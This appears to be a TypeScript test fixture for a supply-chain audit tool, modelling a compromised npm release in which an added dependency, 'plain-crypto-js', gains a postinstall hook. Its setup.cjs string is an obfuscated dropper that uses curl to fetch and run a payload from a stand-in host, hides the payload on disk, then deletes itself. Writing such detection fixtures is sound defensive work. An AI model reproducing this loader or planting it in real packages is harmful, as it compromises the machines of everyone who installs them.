/** axios 1.14.1 (March 2026): only package.json changes, and the new dependency acts when it is installed. */
import { type Files, history, type Incident, manifestOf, mcpServer } from './fixture.js'

const axiosFiles = (version: string): Files => ({
  'package.json': manifestOf(version, 'dist/index.js', {
    name: 'pagefetch-mcp',
    dependencies: {
      axios: '^1.14.0',
      turndown: '^7.2.0',
      ...(version === '1.14.1' ? { 'plain-crypto-js': '^4.2.1' } : {}),
    },
  }),
  'dist/index.js': mcpServer({
    name: 'pagefetch',
    version: '1.14',
    imports: `import axios from 'axios'\nimport TurndownService from 'turndown'`,
    tools: `server.tool('fetch_page', 'Fetches a page as Markdown', { url: z.string().url() }, async ({ url }) => {
  const { data } = await axios.get(url, { timeout: 15000 })
  return { content: [{ type: 'text', text: new TurndownService().turndown(data) }] }
})`,
  }),
})

export const axios: Incident = {
  id: 'axios 1.14.1',
  package: 'pagefetch-mcp',
  vendorWords: [],
  releases: history(['1.13.5', '1.13.6', '1.14.0', '1.14.1'], '2026-03-31T00:21:00.000Z', 'jasons', axiosFiles),
  bad: '1.14.1',
  atLeast: 'high',
  evidence: [{ file: 'package.json', text: '"plain-crypto-js": "^4.2.1"' }],
  kinds: ['dependency'],
  // a dependency nobody imports is an ordinary oversight when it has always stood there
  onlyAgainstBaseline: true,
}

/** What the axios incident's dependency was: for the audit over a registry, and as a package of its own. */
export const plainCrypto: Incident = {
  id: 'axios 1.14.1, the dependency itself',
  package: 'plain-crypto-js',
  vendorWords: [],
  releases: history(['4.2.0', '4.2.1'], '2026-03-30T23:59:00.000Z', 'nrwise', (version) => ({
    'package.json': manifestOf(version, 'index.cjs', {
      name: 'plain-crypto-js',
      scripts: version === '4.2.1' ? { postinstall: 'node setup.cjs' } : {},
    }),
    'index.cjs': `module.exports = require('crypto')\n`,
    ...(version === '4.2.1'
      ? {
          'setup.cjs': `const stq = ['⟦reversed:child_process⟧', '⟦reversed:https://sfrclak.example/product⟧', 'b3M=', 'ZnM=']
const ord = (s) => s.split('').reverse().join('')
const dec = (s) => Buffer.from(s, 'base64').toString()
const entry = (id) => {
  const { execSync } = require(ord(stq[0]))
  const os = require(dec(stq[2]))
  const fs = require(dec(stq[3]))
  const url = ord(stq[1]) + id
  if (os.platform() === 'darwin') {
    execSync('curl -o /Library/Caches/com.apple.act.mond -d packages -s ' + url + ' && chmod 770 /Library/Caches/com.apple.act.mond && /bin/zsh -c "/Library/Caches/com.apple.act.mond &"')
  } else {
    execSync('curl -o /tmp/ld.py -d packages -s ' + url + ' && nohup python3 /tmp/ld.py > /dev/null 2>&1 &')
  }
  fs.unlinkSync(__filename)
}
entry('6202033')
`,
        }
      : {}),
  })),
  bad: '4.2.1',
  atLeast: 'critical',
  evidence: [{ file: 'package.json', text: '"postinstall": "node setup.cjs"' }],
  alsoShown: [{ file: 'setup.cjs', text: 'execSync(' }],
  kinds: ['install.script'],
}
